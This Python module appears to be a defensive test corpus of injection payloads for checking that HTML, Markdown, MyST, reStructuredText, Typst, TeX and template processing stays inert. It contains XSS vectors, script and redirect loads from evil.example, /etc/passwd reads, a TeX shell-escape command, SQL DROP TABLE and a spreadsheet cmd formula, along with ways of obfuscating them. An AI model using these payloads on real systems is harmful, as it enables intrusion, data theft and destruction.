"""Known ways to make text act: of HTML, scripts, templates, MyST, reStructuredText, Typst, TeX and data files.

``PAYLOADS`` are plain ones. ``ATTACKS`` are these and compositions: each thing that would act, in each way of getting
it past a reader that looks at a text once and a writer that joins it with another. ``hook`` is what they call.
"""

from __future__ import annotations

import random
from collections.abc import Callable

#: Each names itself by a token ``zq<number>``, put in for ``@``.
_FORMS = (
    "<script>alert('@')</script>",
    "<ScRiPt src=//evil.example/@.js></sCrIpT>",
    "</script><script>alert('@')</script>",
    "</title><script>alert('@')</script>",
    "</textarea><img src=x onerror=alert('@')>",
    "--><script>alert('@')</script><!--",
    "]]><script>alert('@')</script>",
    '"><img src=x onerror="alert(\'@\')">',
    "'><svg/onload=alert('@')>",
    '" onmouseover="alert(\'@\')" x="',
    "' autofocus onfocus='alert(1)' @='",
    "<img src=x onerror=alert(`@`)>",
    "<svg><animate onbegin=alert('@') attributeName=x></svg>",
    "<math><mtext><table><mglyph><style><img src=@ onerror=alert(1)>",
    "<iframe srcdoc='&lt;script&gt;alert(@)&lt;/script&gt;'></iframe>",
    "<object data=javascript:alert('@')></object>",
    "<base href=//evil.example/@/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/@'>",
    "<a href=javascript:alert('@')>x</a>",
    "<form action=//evil.example/@><button>x</button></form>",
    "<details open ontoggle=alert('@')>",
    "<style>@import '//evil.example/@.css'</style>",
    "&lt;script&gt;alert('@')&lt;/script&gt;",
    "&#60;script&#62;alert('@')&#60;/script&#62;",
    "\\u003cscript\\u003ealert('@')\\u003c/script\\u003e",
    "%3Cscript%3Ealert('@')%3C/script%3E",
    "[x](javascript:alert('@'))",
    "[x](data:text/html;base64,@)",
    "<javascript:alert('@')>",
    "![x](//evil.example/@.png)",
    "[x@]: javascript:alert(1)",
    "[x]{onclick=alert('@')}",
    "{raw}`html <script>alert('@')</script>`",
    "```{raw} html @```",
    "```{include} /etc/passwd @```",
    "{eval-rst}`.. raw:: html @`",
    "{download}`@ </etc/passwd>`",
    "{{ 7 * 7 }} @ {% include '/etc/passwd' %}",
    "(@)= {ref}`index` {term}`x@`",
    "[^@] [^1]: x",
    ".. raw:: html @",
    ":doc:`/etc/passwd @` |@|",
    '#eval("read(\\"/etc/passwd\\")") @',
    '#read("/etc/passwd") @ ]#pagebreak()[',
    '$@$ @@ <label@> #import "@preview/x:1.0.0"',
    "\\input{/etc/passwd} \\write18{touch @}",
    "${alert('@')} `@`",
    "__proto__ constructor @",
    "'; DROP TABLE notes; -- @",
    "=cmd|' /C calc'!A0 @ &#8232;&#x2029;",
)
PAYLOADS = tuple(
    form.replace("@@", "\0").replace("@", f"zq{number}").replace("\0", "@") for number, form in enumerate(_FORMS)
)

#: What would act if it were live; ``@`` is the token.
_ACTS = (
    "<img src=x onerror=hook('@')>",
    "<script>hook('@')</script>",
    "<script src=//evil.example/@.js></script>",
    "<svg onload=hook('@')></svg>",
    "<a href=javascript:hook('@')>@</a>",
    "<iframe src=//evil.example/@></iframe>",
    "<object data=//evil.example/@></object>",
    "<meta http-equiv=refresh content=0;url=//evil.example/@>",
    "<base href=//evil.example/@/>",
    "<link rel=stylesheet href=//evil.example/@.css>",
    "<style>@@import url(//evil.example/@.css);</style>",
    "<form action=//evil.example/@><input autofocus onfocus=hook('@')></form>",
    "<details open ontoggle=hook('@')>@</details>",
    "[@](javascript:hook('@'))",
    "[@](data:text/html;base64,@)",
    "![@](http://evil.example/@.png)",
    "<javascript:hook('@')>",
    "{raw}`<script>hook('@')</script>`",
    "{download}`@ </etc/passwd>`",
    "{eval-rst}`.. raw:: html @`",
    "```{raw} html\n<script>hook('@')</script>\n```",
    ":::{raw} html\n<script>hook('@')</script>\n:::",
    "```{include} /etc/passwd\n```\n@",
    "```{literalinclude} /etc/passwd\n```\n@",
    ":::{literalinclude} /etc/passwd\n:::\n@",
    "```{csv-table} @\n:url: http://evil.example/@.csv\n```",
    "```{image} http://evil.example/@.png\n```",
    "```{eval-rst}\n.. raw:: html\n\n   <script>hook('@')</script>\n```",
    "[@]{onclick=hook('@')}",
    "{onclick=hook('@')}\n@",
    "{{ hook('@') }}",
    '#eval("@") #image("/etc/passwd") #link("javascript:@")[x]',
)
#: Every line end of ``str.splitlines`` but the line feed.
LINE_ENDS = ("\r", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029")


def _at_line_end(end: str) -> Callable[[str], str]:
    return lambda act: f"待考。{end}{end}  " + act.replace("\n", f"{end}  ")


def _cut(between: str) -> Callable[[str], str]:
    """A way to cut what acts in two, where a joining writer would make it whole again."""
    return lambda act: act[: (cut := len(act) // 2)] + between + act[cut:]


def _in_tag(between: str) -> Callable[[str], str]:
    return lambda act: act.replace(" ", between, 1) if " " in act else f"{act[:-1]}{between}{act[-1:]}"


#: How it comes there.
_WAYS: tuple[Callable[[str], str], ...] = (
    lambda act: act,
    lambda act: f"说：{act}",
    *map(_at_line_end, LINE_ENDS),
    _in_tag("\n\n"),
    _in_tag("\n"),
    _in_tag(" \\\n"),
    _cut("\n\n"),
    _cut("<!-- -->"),
    _cut("]]>"),
    _cut("\u200b"),
    _cut("&#x0a;&#x0a;"),
    lambda act: act.replace("<", "&lt;").replace("`", "&#96;"),
    lambda act: act.replace("<", "&#60;").replace("[", "&#x5b;"),
    lambda act: act.replace("<", "&amp;lt;"),
    lambda act: f"<![CDATA[{act}]]>",
    lambda act: f"<!-- {act} -->",
    lambda act: f"-->{act}<!--",
    lambda act: f"[d]: <{act}>\n\n[d]",
    lambda act: f"[d]\n\n[d]: http://x '{act}'",
    lambda act: f"`{act}``",
    lambda act: f"``\n{act}\n``",
    lambda act: f"*{act}* **{act}**",
    lambda act: f"[{act}](https://example.org/)",
    lambda act: f'[x](https://example.org/ "{act}")',
    lambda act: f"[x](https://example.org/{act})",
    lambda act: f"{{term}}`{act}`",
    lambda act: f"{{ref}}`{act} <a/b#l0001>`",
    lambda act: f"- {act}\n- {act}",
    lambda act: f"1. 一\n\n   {act}",
    lambda act: f"> {act}",
    lambda act: f"\"'></title></script></textarea>{act}",
    lambda act: f"{act}\\",
    lambda act: f"\\{act}",
    lambda act: f"| a |\n| - |\n| {act} |",
    lambda act: f"词\n: {act}",
    lambda act: f"[^1]\n\n[^1]: {act}",
    lambda act: f"(x)=\n{act}",
    lambda act: f"+++ {act}\n% {act}",
    lambda act: f"${act}$ $${act}$$",
    lambda act: f"# {act}\n=",
    lambda act: f"\t{act}",
)
#: Of which random compositions are made.
_FRAGMENTS = (
    *_ACTS,
    "义。",
    "\n",
    "\n\n",
    "\u2028",
    "\x85",
    "&lt;",
    "&#10;",
    "<",
    ">",
    "`",
    "```",
    ":::",
    "*",
    "**",
    "_",
    "[",
    "](",
    ")",
    "]: ",
    "!",
    "{",
    "}",
    "\\",
    "<!--",
    "-->",
    "<![CDATA[",
    "]]>",
    "{term}`",
    "{raw} html",
    "- ",
    "  ",
    "    ",
    "|",
    "$",
    "https://example.org/",
)


def composed(chance: random.Random) -> str:
    """A random composition of fragments that may and may not be written."""
    return "".join(chance.choices(_FRAGMENTS, k=chance.randint(2, 7))) + "@"


def _attacks() -> tuple[str, ...]:
    """The plain forms; a quarter of all acts in all ways, each act and each way among them; random compositions."""
    forms = [way(act) for a, act in enumerate(_ACTS) for w, way in enumerate(_WAYS) if (a + w) % 4 == 0]
    forms += [composed(random.Random(number)) for number in range(120)]
    named = [
        form.replace("@@", "\0").replace("@", f"zq{number}").replace("\0", "@")
        for number, form in enumerate(forms, len(PAYLOADS))
    ]
    return (*PAYLOADS, *named)


#: All of them, by number.
ATTACKS = _attacks()
